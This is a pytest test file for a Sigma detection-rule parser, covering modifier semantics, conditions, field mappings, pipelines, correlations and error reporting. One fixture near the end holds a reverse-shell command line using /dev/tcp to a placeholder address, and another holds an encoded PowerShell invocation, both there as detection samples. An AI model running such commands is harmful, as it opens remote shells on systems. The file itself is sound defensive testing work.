"""Sigma's rules: what each modifier means, shown on events; what is refused, and where."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("sigma", reason="the extra sigma is not installed")

from rmqio.errors import LocalError
from rmqio.rules.engine import compile_usable
from rmqio.rules.formats import Mapping, Parsed, RuleText, parse
from rmqio.rules.ir import Atom, CorrelationKind, Kind, atoms
from rmqio.rules.ruleset import RuleSet
from tests.helpers.rules.meaning import both_hold as holds

_DATA = Path(__file__).parents[3] / "data" / "sigma"
_ID = "5b1f6c8e-2f1c-4c0e-9a41-6b0c8fd0f0{:02}"


def sigma(detection: str, condition: str = "sel", number: int = 1, more: str = "") -> str:
    """A rule with this detection."""
    lines = "".join(f"  {line}\n" for line in detection.strip("\n").split("\n"))
    return (
        f"title: t\nid: {_ID.format(number)}\n{more}logsource: {{category: process_creation, product: windows}}\n"
        f"detection:\n{lines}  condition: {condition}\n"
    )


def parsed(text: str, mapping: Any = None) -> Parsed:
    return parse([RuleText("r.yml", text)], mapping=Mapping.of(mapping))


def matches(text: str, event: dict[str, Any], mapping: Any = None) -> bool:
    found = parsed(text, mapping)
    assert not found.problems, found.problems
    return holds(found.rules[0].condition, event)


def _item(item: str) -> str:
    return sigma(f"sel:\n  {item}")


_HIDDEN = base64.b64encode(b"xxx http:// yyy").decode()
_WIDE = base64.b64encode("run ping now".encode("utf-16le")).decode()


@pytest.mark.parametrize(
    ("item", "yes", "no"),
    [
        ("a: Cmd.exe", {"a": "cmd.EXE"}, {"a": "cmd.exe "}),
        ("a|cased: Cmd", {"a": "Cmd"}, {"a": "cmd"}),
        ("a: [x, y]", {"a": "y"}, {"a": "z"}),
        ("a: 4625", {"a": 4625}, {"a": 4624}),
        ("a: 4625", {"a": "4625"}, {}),
        ("a: true", {"a": True}, {"a": False}),
        ("a: ''", {"a": ""}, {}),
        ("a: null", {"a": None}, {"a": "x"}),
        ("a: null", {}, {"a": ""}),
        ("a: '*'", {"a": 5}, {"a": None}),
        ("a: 'x*y?z'", {"a": "X--y-Z"}, {"a": "x--yz"}),
        (r"a: 'x\*y'", {"a": "x*y"}, {"a": "x-y"}),
        ("a|contains: mid", {"a": "aMIDb"}, {"a": "mi d"}),
        ("a|contains|all: [x, y]", {"a": "y-x"}, {"a": "x"}),
        ("a|contains|cased: Mid", {"a": "aMidb"}, {"a": "amidb"}),
        ("a|startswith: ab", {"a": "ABc"}, {"a": "cab"}),
        (r"a|endswith: '\cmd.exe'", {"a": r"C:\CMD.exe"}, {"a": "cmd.exe"}),
        ("a|re: '^x+y$'", {"a": "xxy"}, {"a": "XXY"}),
        ("a|re|i: '^x+y$'", {"a": "XXY"}, {"a": "zy"}),
        ("a|re|m|s: '^b.c$'", {"a": "a\nb\nc"}, {"a": "ab\nc"}),
        ("a|cidr: 10.0.0.0/8", {"a": "10.1.2.3"}, {"a": "11.1.2.3"}),
        ("a|cidr: 'fd00::/8'", {"a": "fd12::1"}, {"a": "10.0.0.1"}),
        ("a|exists: true", {"a": None}, {"b": 1}),
        ("a|exists: false", {"b": 1}, {"a": 1}),
        ("a|lt: 5", {"a": 4.5}, {"a": 5}),
        ("a|lte: 5", {"a": 5}, {"a": 6}),
        ("a|gt: 5", {"a": 6}, {"a": 5}),
        ("a|gte: 5", {"a": 5}, {"a": 4}),
        ("a: 9007199254740993", {"a": 9007199254740993}, {"a": 9007199254740992}),
        ("a: [1, -12345678901234567890123]", {"a": -12345678901234567890123}, {"a": -12345678901234567890124}),
        ("a|gt: 18446744073709551615", {"a": 18446744073709551616}, {"a": 18446744073709551615}),
        ("a|neq: 5", {"a": 4}, {"a": 5}),
        ("a|fieldref: b", {"a": "X", "b": "x"}, {"a": "x"}),
        ("a|base64: 'foo'", {"a": "Zm9v"}, {"a": "foo"}),
        ("a|base64offset|contains: 'http://'", {"a": f"-e {_HIDDEN}"}, {"a": "http://"}),
        ("a|wide|base64offset|contains: 'ping'", {"a": _WIDE}, {"a": "ping"}),
        ("a|utf16|base64: 'x'", {"a": base64.b64encode(b"\xff\xfex\x00").decode()}, {"a": "x"}),
        ("a|contains|windash: ' -enc'", {"a": "p /enc"}, {"a": "p enc"}),
        ("a|windash: '-a -b -c -d -e'", {"a": "/A -b \u2013c \u2014d \u2015e"}, {"a": "/a -b -c -d _e"}),
        ("a|contains|all|windash: [-a, -b]", {"a": "/b /a"}, {"a": "/b"}),
        ("a|utf16le|base64: 'x'", {"a": base64.b64encode(b"x\x00").decode()}, {"a": "x"}),
        ("a|utf16le|base64offset|contains: 'ping'", {"a": _WIDE}, {"a": "ping"}),
        ("a: '*'", {"a": [None, "x"]}, {"a": []}),
        ("a: '**'", {"a": [[], [""]]}, {"a": [None]}),
        ("a|contains: ''", {"a": [None, False]}, {}),
        ("a|startswith: ''", {"a": ""}, {"a": {"b": 1}}),
        ("a|cased|endswith: ''", {"a": 0}, {"a": [None, []]}),
        ("a|neq: '*'", {"a": [None]}, {"a": [None, "x"]}),
        ("a: true", {"a": "True"}, {"a": "1"}),
        ("a: false", {"a": ["x", "FALSE"]}, {"a": "true"}),
        ("a|neq: true", {"a": "False"}, {"a": "TRUE"}),
        ("a: 'x?z'", {"a": "X\u00dfz"}, {"a": "xssz"}),
        ("a: 'stra\u00dfe'", {"a": "STRA\u00dfE"}, {"a": "STRASSE"}),
        ("a|contains: 's'", {"a": "S"}, {"a": "\u017f"}),
        ("a|endswith: '\u03a3\u03a3'", {"a": "x\u03c3\u03a3"}, {"a": "x\u03c3\u03c2"}),
        ("a: '\u0130?'", {"a": "\u0130x"}, {"a": "ix"}),
        ("a|startswith: 'i?x'", {"a": "I\u0130x"}, {"a": "i\u0130\u0130x"}),
        ("a|fieldref: b", {"a": "\u00c4", "b": "\u00e4"}, {"a": "ss", "b": "\u00df"}),
        ("a|contains: k", {"a": "K"}, {"a": "\u212a"}),
        ("a|startswith: '\u212a\u00c5'", {"a": "\u212a\u00e5"}, {"a": "k\u00e5"}),
        ("a|fieldref|contains: b", {"a": ["x", "aBc"], "b": "b"}, {"a": "abc", "b": "d"}),
        ("a|fieldref|startswith: b", {"a": 4625, "b": 46}, {"a": "abc", "b": "bc"}),
        ("a|fieldref|endswith: b", {"a": "abc", "b": ["x", "BC"]}, {"a": "abc", "b": None}),
        ("a|fieldref|contains|neq: b", {"a": "abc", "b": "d"}, {"a": "abc", "b": "c"}),
        ("a|fieldref: 4688", {"a": "x", "4688": "X"}, {"a": "x"}),
        ("4688: x", {"4688": "x"}, {"4688": "y"}),
        ("0x10: x", {"0x10": "x"}, {"16": "x"}),
        ("on: x", {"on": "x"}, {"true": "x"}),
        ("2024-01-01: x", {"2024-01-01": "x"}, {}),
        (r"a|expand: '\%x\%'", {"a": "%X%"}, {"a": r"\%x\%"}),
        (r"a|expand|contains: '\%x'", {"a": "a%xb"}, {"a": "x"}),
        (r"a|re|expand: '^\%x$'", {"a": "%x"}, {"a": "x"}),
        (r"a: '\%x\%'", {"a": r"\%x\%"}, {"a": "%x%"}),
        ('a|re: "a$\\n"', {"a": "a\n"}, {"a": "a"}),
        ('a|re: "(a$)[\\n]"', {"a": "b\na\n"}, {"a": "a\nb"}),
        (r"a|re: 'a$\s'", {"a": "a\n"}, {"a": "a\n\n"}),
        (r"a|re: '\n(a|b$)\n'", {"a": "a\nb\n"}, {"a": "a\nb"}),
        (r"a|re|s: 'a$.'", {"a": "a\n"}, {"a": "a\nb"}),
        (r"a|re: '^[^x]$\s*$'", {"a": "a\n"}, {"a": "a\n\n"}),
    ],
)
def test_a_modifier_means(item: str, yes: dict[str, Any], no: dict[str, Any]) -> None:
    assert matches(_item(item), yes)
    assert not matches(_item(item), no)


_PATHS = r"""sel: {p|endswith: '\svchost.exe'}
fil: {p|startswith: ['C:\Windows\System32\', 'C:\strasse\', 'C:\task\']}"""


@pytest.mark.parametrize(
    ("detection", "condition", "yes", "no"),
    [
        ("keywords:\n  - needle\n  - 'a*z'", "keywords", {"x": {"y": ["a NEEDLE"]}}, {"needle": "x"}),
        ("keywords:\n  '|all':\n    - one\n    - two", "keywords", {"x": "one", "y": "two"}, {"x": "one"}),
        ("keywords:\n  - 4625", "keywords", {"x": 14625}, {"x": 462}),
        ("sel_a: {a: 1}\nsel_b: {b: 1}", "1 of sel_*", {"b": 1}, {"a": 2}),
        ("sel_a: {a: 1}\nsel_b: {b: 1}", "all of sel_*", {"a": 1, "b": 1}, {"b": 1}),
        ("sel-a: {a: 1}\nsel-b: {b: 1}", "1 of sel-*", {"b": 1}, {"a": 2}),
        ("sel-a: {a: 1}\nsel-b: {b: 1}", "not any of *-a and all of sel-*b", {"b": 1}, {"a": 1, "b": 1}),
        ("s-a: {a: 1}\ns-b: {b: 1}\n_s-c: {c: 1}", "all of s-*", {"a": 1, "b": 1}, {"b": 1, "c": 1}),
        ("1: {a: 1}\nsel: {b: 1}", "sel and not 1", {"b": 1}, {"a": 1, "b": 1}),
        ("sel_a: {a: 1}\nsel_b: {b: 1}", "all of them", {"a": 1, "b": 1}, {"b": 1}),
        ("sel: {a: 1}\nfil: {b: 1}", "sel and not fil", {"a": 1}, {"a": 1, "b": 1}),
        ("s: {a: 1}\nt: {b: 1}\nu: {c: 1}", "not (s or t) and (u or not s)", {}, {"a": 1, "c": 1}),
        ("sel: {a: 1, b: 2}", "sel", {"a": 1, "b": 2}, {"a": 1}),
        (
            _PATHS,
            "sel and not fil",
            {"p": "C:\\Window\u017f\\System32\\svchost.exe"},
            {"p": "c:\\WINDOWS\\system32\\SvcHost.exe"},
        ),
        (_PATHS, "sel and not fil", {"p": "C:\\Stra\u00dfe\\svchost.exe"}, {"p": "C:\\STRASSE\\svchost.exe"}),
        (_PATHS, "sel and not fil", {"p": "C:\\Tas\u212a\\svchost.exe"}, {"p": "C:\\TASK\\svchost.exe"}),
        ("sel:\n  - {a: 1}\n  - {b: 1, c: 1}", "sel", {"b": 1, "c": 1}, {"b": 1}),
        ("s: {a: 1}\nt: {b: 1}", "[s, t]", {"b": 1}, {}),
    ],
)
def test_a_condition_means(detection: str, condition: str, yes: dict[str, Any], no: dict[str, Any]) -> None:
    assert matches(sigma(detection, condition), yes)
    assert not matches(sigma(detection, condition), no)


def test_a_rule_keeps_its_title_level_tags_source_and_place() -> None:
    text = "# a comment\n" + sigma("sel: {a: 1}", more="level: critical\ntags: [attack.execution]\n")
    (rule,) = parsed(text).rules
    assert (rule.title, rule.level, rule.tags) == ("t", "critical", ("attack.execution",))
    assert rule.source == (("category", "process_creation"), ("product", "windows"))
    assert (rule.place.file, rule.place.line) == ("r.yml", 2)


_SHARED_HOUR = (
    "action: global\ntitle: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a|hour: 1\n  condition: sel\n"
    f"---\nid: {_ID.format(1)}\n"
)
_HOURLY = f"""\
title: f
logsource: {{category: process_creation, product: windows}}
filter:
  rules: [{_ID.format(1)}]
  mine:
    a|hour: 1
  condition: not mine
"""


@pytest.mark.parametrize(
    ("text", "line", "reason"),
    [
        *(
            (_item(f"b: 1\n  a|fieldref{more}"), 7, f"'a|fieldref{more.split(':')[0]}' names no field")
            for more in (": ''", "|contains: ' '", ": [b, '']")
        ),
        (_item("a|contain: x"), 6, "there is no modifier 'contain'; did you mean contains?"),
        (sigma("sel: {a: 1}", "sel and nope"), 6, "'nope' not defined"),
        *((sigma("sel: {a: 1}", empty), 6, "'condition' is empty") for empty in ("", "' '", "[]", "[sel, null]")),
        (sigma("sel: {a: 1}", "1 of nope_*"), 6, "doesn't match any detection"),
        (_item("a|expand: '%user%'"), 6, "the placeholder %user% has no value"),
        (_item("a|re: '('"), 6, "egular expression"),
        (_item("a|cidr: 10.0.0.0/99"), 6, "CIDR"),
        (_item("a|hour: 5"), 6, "the modifier hour (part of a time) is not supported"),
        (_item("a|minute|gte: 30"), 6, "the modifier minute (part of a time) is not supported"),
        (_item("a|hour|lt: 3"), 6, "the modifier hour (part of a time) is not supported"),
        (_item("a|week|neq: 3"), 6, "the modifier week (part of a time) is not supported"),
        (_item("a|re: 5"), 6, "'a|re' takes a text, not 5: write '5'"),
        (_item("a|re|i: [x, true]"), 6, "'a|re|i' takes a text, not true: write 'true'"),
        (_item("a|contains: null"), 6, "'a|contains' takes a text, not null"),
        (_item("a|startswith|all: [x, 5]"), 6, "'a|startswith|all' takes a text, not 5: write '5'"),
        (_item("a|cidr: true"), 6, "'a|cidr' takes a text, not true: write 'true'"),
        (_item("a|base64offset|contains: 1.5"), 6, "'a|base64offset|contains' takes a text, not 1.5: write '1.5'"),
        (_item("a|windash: null"), 6, "'a|windash' takes a text, not null"),
        (_item("a|lt: '5'"), 6, "'a|lt' takes a number, not '5'"),
        (_item("a|gte: true"), 6, "'a|gte' takes a number, not true"),
        (_item("a|exists: 1"), 6, "'a|exists' takes true or false, not 1"),
        (_item("a|i: x"), 6, "the modifier i cannot be applied to 'x'"),
        (_item("a: {}"), 6, "'a' has an object: a value is a text"),
        (_item("a|contains: {b: 1}"), 6, "'a|contains' has an object"),
        (_item("a: [x, [y]]"), 6, "'a' has a list in a list"),
        (_item("a: !!set {x, y}"), 6, "'a' has an object"),
        (_item("a: 2024-01-01"), 6, "'a' has 2024-01-01, a date of YAML: write it as a text, in quotes"),
        (sigma("keywords: [x, 2024-01-01]", "keywords"), 5, "'keywords' has 2024-01-01, a date of YAML"),
        (_item("a: []"), 6, "'a' has an empty list"),
        (_item("a|contains|all: []"), 6, "'a|contains|all' has an empty list"),
        (sigma("sel:\n  - b: 1\n  - a: []"), 7, "'a' has an empty list"),
        (sigma("keywords: []", "keywords"), 5, "'keywords' has an empty list"),
        (sigma("keywords:\n  '|all': []", "keywords"), 6, "'|all' has an empty list"),
        (sigma("sel-a: {a: 1}", "1 of nope-*"), 6, "doesn't match any detection"),
        (_item(r"a|expand: '\%plain%name%'"), 6, "the placeholder %name% has no value"),
        (sigma("keywords: ['*']", "keywords"), 5, "matches every event"),
        (sigma("keywords:\n  - x\n  - - y\n    - null", "keywords"), 8, "a null keyword has no meaning"),
        (sigma("sel:\n  - b: 1\n  - c: 1\n    a|hour|lt:\n      - 1\n      - 2"), 8, "the modifier hour (part of"),
        (sigma("sel:\n  - b: 1\n    a|week: 2\nfil:\n  a|hour: 1", "not fil and sel"), 9, "the modifier hour (part of"),
        (sigma("sel:\n  b: 1\n  sel: {}"), 7, "'sel' has an object"),
        (_SHARED_HOUR, 6, "hour (part of"),
        (_item("a: 1") + "---\n" + _HOURLY, 14, "hour (part of"),
        ("title: t\nid: x\n", 2, "id"),
        ("title: [\n", 2, "this is not YAML"),
        ("- a\n", 1, "a document of Sigma is an object"),
        ("title: t\ntitle: u\n", 1, "this is not YAML: Duplicate key 'title'"),
    ],
)
def test_a_mistake_has_its_line_and_reason(text: str, line: int, reason: str) -> None:
    found = parsed(f"{text}")
    assert not found.rules
    problem = next(each for each in found.problems if reason in each.reason)
    assert problem.line == line


def test_the_other_rules_of_a_file_are_found_nevertheless() -> None:
    text = "---\n".join([sigma("sel: {a: 1}"), sigma("sel: {a|no: 1}", number=2), sigma("sel: {b: 1}", number=3)])
    found = parsed(f"{text}---\naction: repeat\nid: {_ID.format(4)}\ndetection:\n  sel:\n    a|day: 1\n")
    assert [each.id[-1] for each in found.rules] == ["1", "3"]
    assert [each.line for each in found.problems] == [12, 26]
    assert found.problems[0].shown.splitlines()[1].endswith("^")


def test_what_a_set_has_that_is_good_can_be_used_alone(tmp_path: Path) -> None:
    pytest.importorskip("re2", reason="the extra rules is not installed")
    bad = [_item("a|expand: '%user%'"), _item("a|re: 'x(?=y)'"), _item("a|hour: 5"), "title: [\n", "title: x\n"]
    bad.append(_CORRELATION.format(type="temporal", rules="hidden", condition=""))
    for number, text in enumerate(bad):
        (tmp_path / f"bad{number}.yml").write_text(text.replace(_ID.format(1), _ID.format(10 + number)))
    (tmp_path / "good.yml").write_text(_item("a: 1"))
    (tmp_path / "large.yml").write_text(sigma(f"sel: {{a|re: '{'x' * 9_000}'}}", number=2))  # the engine refuses it
    rules = RuleSet.from_files(str(tmp_path / "*.yml"))
    matcher, problems = compile_usable(rules)
    assert [each.id for each in matcher.rules] == [_ID.format(1)]
    assert sorted({Path(each.file).stem for each in problems}) == [*(f"bad{n}" for n in range(len(bad))), "large"]
    assert [each.id for each in rules.usable().rules] == [_ID.format(1), _ID.format(2)]
    assert not rules.usable().correlations


def test_documents_can_share_a_global_part() -> None:
    text = (
        "action: global\ntitle: t\nlogsource: {product: linux}\nlevel: high\n---\n"
        f"id: {_ID.format(1)}\ndetection: {{sel: {{a: 1}}, condition: sel}}\n---\n"
        f"id: {_ID.format(2)}\ndetection: {{sel: {{b: 1}}, condition: sel}}\n"
    )
    assert [(each.level, holds(each.condition, {"b": 1})) for each in parsed(text).rules] == [
        ("high", False),
        ("high", True),
    ]


def test_a_filter_changes_the_rules_of_its_log_source() -> None:
    text = (
        sigma("sel: {a: 1}", more="name: a_rule\n")
        + "---\ntitle: f\nlogsource: {category: process_creation, product: windows}\n"
        "filter:\n  rules: [a_rule]\n  mine: {user: me}\n  condition: not mine\n"
    )
    assert matches(text, {"a": 1})
    assert not matches(text, {"a": 1, "user": "me"})


def test_a_mapping_has_fields_and_conditions_of_log_sources() -> None:
    mapping = {
        "fields": {"a": "event.a", "b": ["x", "y"]},
        "sources": [{"category": "process_creation", "when": {"EventID": [1, 4688]}, "fields": {"c": "d"}}],
    }
    text = _item("a: 1\n  b: 1\n  c|fieldref: a")
    assert matches(text, {"event": {"a": 1}, "y": 1, "d": 1, "EventID": 4688}, mapping)
    assert not matches(text, {"event": {"a": 1}, "y": 1, "d": 1, "EventID": 2}, mapping)
    assert matches(_item("a: 1"), {"event.a": 1}, {"a": "event.a"})


_PROCESSES = {
    "fields": {"user": "actor", "Image": "path"},
    "sources": [
        {"product": "windows", "when": {"os": "win"}, "fields": {"user": "who"}},
        {
            "category": "process_creation", "when": {"Channel": "Sysmon", "EventID": 1},
            "fields": {"CommandLine": "cmd", "Image": ["exe", "image"]},
        },
        {
            "category": "process_creation", "when": {"Channel": "Security", "EventID": 4688, "Flag": True},
            "fields": {"CommandLine": "ProcessCommandLine", "Image": "NewProcessName"},
        },
    ],
}  # fmt: skip


@pytest.mark.parametrize(
    ("event", "is_met"),
    [
        ({"os": "win", "EventID": 1, "Channel": "Sysmon", "cmd": "x", "image": "y", "who": "z"}, True),
        ({"os": "win", "EventID": 4688, "Channel": "security", "Flag": "TRUE", "ProcessCommandLine": "x",
          "NewProcessName": "y", "who": "z"}, True),
        ({"EventID": 1, "Channel": "Sysmon", "cmd": "x", "image": "y", "who": "z"}, False),
        ({"os": "win", "EventID": 4688, "Channel": "Sysmon", "Flag": True, "cmd": "x", "image": "y",
          "who": "z"}, False),
        ({"os": "win", "EventID": 1, "Channel": "Sysmon", "ProcessCommandLine": "x", "NewProcessName": "y",
          "who": "z"}, False),
        ({"os": "win", "EventID": 1, "Channel": "Sysmon", "cmd": "x", "image": "y", "actor": "z"}, False),
    ],
)  # fmt: skip
def test_entries_of_one_source_are_alternatives_and_of_others_hold_too(event: dict[str, Any], is_met: bool) -> None:
    assert matches(_item("CommandLine: x\n  Image: y\n  user: z"), event, _PROCESSES) is is_met


def test_an_entry_without_fields_shares_the_condition() -> None:
    sources = [{"category": "process_creation", "when": {"EventID": each}} for each in (1, 4688)]
    (rule,) = parsed(_item("a: x"), {"sources": sources}).rules
    assert [each.value for each in atoms(rule.condition)] == [1, 4688, "x"]
    of_any = {"sources": [{"category": "process_creation", "when": {"EventID": 1}}, {"category": "process_creation"}]}
    assert matches(_item("a: x"), {"a": "x"}, of_any)


_PIPELINE = """\
name: ours
priority: 10
transformations:
  - {id: names, type: field_name_mapping, mapping: {a: event.a}}
  - {id: source, type: add_condition, conditions: {EventID: 1}, rule_conditions: [{type: logsource, product: windows}]}
  - {id: users, type: value_placeholders, include: [user]}
vars:
  user: [alice, bob]
"""


def test_a_pipeline_of_pysigma_is_a_mapping(tmp_path: Path) -> None:
    (tmp_path / "pipeline.yml").write_text(_PIPELINE)
    from sigma.processing.pipeline import ProcessingPipeline

    for mapping in (str(tmp_path / "pipeline.yml"), ProcessingPipeline.from_yaml(_PIPELINE)):
        text = _item("a|expand: '%user%'")
        assert matches(text, {"event": {"a": "Bob"}, "EventID": 1}, mapping)
        assert not matches(text, {"event": {"a": "Eve"}, "EventID": 1}, mapping)
        assert not matches(text, {"event": {"a": "Bob"}, "EventID": 2}, mapping)


@pytest.mark.parametrize(
    ("mapping", "reason"),
    [
        ({"fields": {"a": 5}}, "'a' must be mapped to the name of a field"),
        ({"fields": {}, "source": []}, "no key 'source'; did you mean sources?"),
        ({"sources": [{"when": {"a": 1}}]}, "has none of category, product, service"),
        ({"sources": [{"product": "x", "when": {"a": {}}}]}, "must have a text, number or boolean"),
        (5, "not int"),
        ("/nowhere.yml", "cannot read the mapping"),
    ],
)
def test_a_mapping_that_is_none_is_refused(mapping: Any, reason: str) -> None:
    with pytest.raises(LocalError) as caught:
        Mapping.of(mapping)
    assert reason in str(caught.value)


def test_the_rules_of_the_repository_load_and_match() -> None:
    texts = [RuleText(each.name, each.read_text()) for each in sorted(_DATA.glob("*_*.yml"))]
    found = parse(texts, mapping=Mapping.of(_DATA / "mapping.yml"))
    assert not found.problems
    by_title = {each.title.split()[0]: each for each in found.rules}
    shell = {
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
        "process": {"executable": r"C:\Windows\powershell.exe", "command_line": "powershell \u2013enc SQBFAFgA"},
    }  # fmt: skip
    assert holds(by_title["Shell"].condition, shell)
    assert not holds(by_title["Shell"].condition, shell | {"EventID": 3})
    assert not holds(
        by_title["Shell"].condition, shell | {"ParentImage": r"c:\program files\agent\a.exe", "User": "SYSTEM"}
    )
    assert holds(by_title["Reverse"].condition, {"log": ["bash -c 'exec 5<>/DEV/tcp/1.2.3.4/80'"]})
    assert holds(by_title["Connection"].condition, {"DestinationPort": "22", "SourceIp": "8.8.8.8"})
    assert not holds(by_title["Connection"].condition, {"DestinationPort": 22, "SourceIp": "10.8.8.8"})
    assert not holds(by_title["Connection"].condition, {"DestinationPort": 22})


_CORRELATION = """\
title: c
id: 5b1f6c8e-2f1c-4c0e-9a41-6b0c8fd0f050
correlation:
  type: {type}
  rules: [{rules}]
  group-by: [user]
  timespan: 10m
  aliases:
    user: {{first: UserName, second: user.name}}
{condition}"""


def _correlated(kind: str, condition: str = "", rules: str = "first, second") -> Parsed:
    rule = _CORRELATION.format(type=kind, condition=condition, rules=rules)
    texts = [
        RuleText("c.yml", rule),
        RuleText("a.yml", sigma("sel: {a: 1}", number=1, more="name: first\n")),
        RuleText("b.yml", sigma("sel: {b: 1}", number=2, more="name: second\n")),
    ]
    return parse(texts)


@pytest.mark.parametrize(
    ("kind", "condition"),
    [
        ("event_count", "  condition: {gt: 5}"), ("value_count", "  condition: {lte: 3, field: host}"),
        ("temporal", ""), ("temporal_ordered", ""),
    ],
)  # fmt: skip
def test_a_correlation_names_the_rules_of_other_files(kind: str, condition: str) -> None:
    found = _correlated(kind, condition)
    assert not found.problems
    (rule,) = found.correlations
    assert rule.kind is CorrelationKind(kind)
    assert rule.rules == (_ID.format(1), _ID.format(2))
    assert rule.timespan_ms == 600_000
    assert rule.fields_of("user", _ID.format(2)) == ("user.name",)
    if condition:
        assert (rule.operator, rule.count) in (("gt", 5), ("lte", 3))


@pytest.mark.parametrize(
    ("kind", "condition", "rules", "line", "reason"),
    [
        ("event_count", "  condition: {gt: 5}", "frist, second", 5,
         "there is no rule 'frist' in the set; did you mean first?"),
        ("value_avg", "  condition: {gt: 5, field: x}", "first, second", 4, "value_avg is not supported"),
        ("temporal", "  condition: first and not second", "first, second", 10, "by and, or, not is not supported"),
        ("temporal", "  condition:\n    gte: 1", "first, second", 10, "temporal takes all of its rules"),
        ("event_count", "  condition: {gt: 5}", "first", 9, "does not take"),
        ("event_count", "  condition:\n    gte: 1.5", "first, second", 11, "a whole number"),
        ("event_count", "  condition: {gte: x}", "first, second", 10, "no valid Sigma correlation condition count"),
        ("nope", "  condition: {gte: 1}", "first, second", 4, "no valid Sigma correlation type"),
    ],
)  # fmt: skip
def test_a_correlation_that_is_not_supported_says_why(
    kind: str, condition: str, rules: str, line: int, reason: str
) -> None:
    (problem,) = _correlated(kind, condition, rules).problems
    assert reason in problem.reason
    assert (problem.file, problem.line) == ("c.yml", line)


def test_base64_offsets_are_three_texts() -> None:
    found = list(atoms(parsed(_item("a|base64offset|contains: 'abc'")).rules[0].condition))
    assert [each.kind for each in found] == [Kind.CONTAINS] * 3
    assert found[0] == Atom("a", Kind.CONTAINS, "YWJj", ignore_case=True)


_SOURCES = {"fields": {"user": "actor"}, "sources": [{"product": "linux", "fields": {"user": ["uid", "login.name"]}}]}
_OF_SOURCES = """\
name: ours
priority: 10
transformations:
  - {id: linux, type: field_name_mapping, mapping: {user: uid}, rule_conditions: [{type: logsource, product: linux}]}
  - id: windows
    type: field_name_mapping
    mapping: {user: actor, host: computer}
    rule_conditions: [{type: logsource, product: windows}]
"""
_BY_USER = _CORRELATION[: _CORRELATION.index("  aliases")].format(type="value_count", rules="first, second")


@pytest.mark.parametrize("is_pipeline", [False, True])
def test_a_mapping_by_log_source_reaches_correlations(is_pipeline: bool, tmp_path: Path) -> None:
    given: Any = _SOURCES
    if is_pipeline:
        given = tmp_path / "pipeline.yml"
        given.write_text(_OF_SOURCES)
    linux = sigma("sel: {user: x}", number=2, more="name: second\n").replace("product: windows", "product: linux")
    texts = [
        RuleText("c.yml", f"{_BY_USER}  condition: {{gte: 2, field: host}}\n"),
        RuleText("a.yml", sigma("sel: {user: x}", number=1, more="name: first\n")),
        RuleText("b.yml", linux),
    ]
    found = parse(texts, mapping=Mapping.of(given))
    assert not found.problems
    (rule,) = found.correlations
    of_linux = ("uid",) if is_pipeline else ("uid", "login.name")
    assert [rule.fields_of("user", _ID.format(number)) for number in (1, 2)] == [("actor",), of_linux]
    of_host = ("computer" if is_pipeline else "host", "host")
    assert [rule.fields_of(rule.field, _ID.format(number)) for number in (1, 2)] == [(each,) for each in of_host]


def test_a_name_that_is_one_field_for_all_rules_is_called_as_that_field() -> None:
    texts = [
        RuleText("c.yml", f"{_BY_USER}  condition: {{gte: 2, field: host}}\n"),
        RuleText("a.yml", sigma("sel: {user: x}", number=1, more="name: first\n")),
        RuleText("b.yml", sigma("sel: {user: x}", number=2, more="name: second\n")),
    ]
    (rule,) = parse(texts, mapping=Mapping.of({"user": "actor"})).correlations
    assert (rule.group_by, rule.field, rule.aliases) == (("actor",), "host", ())
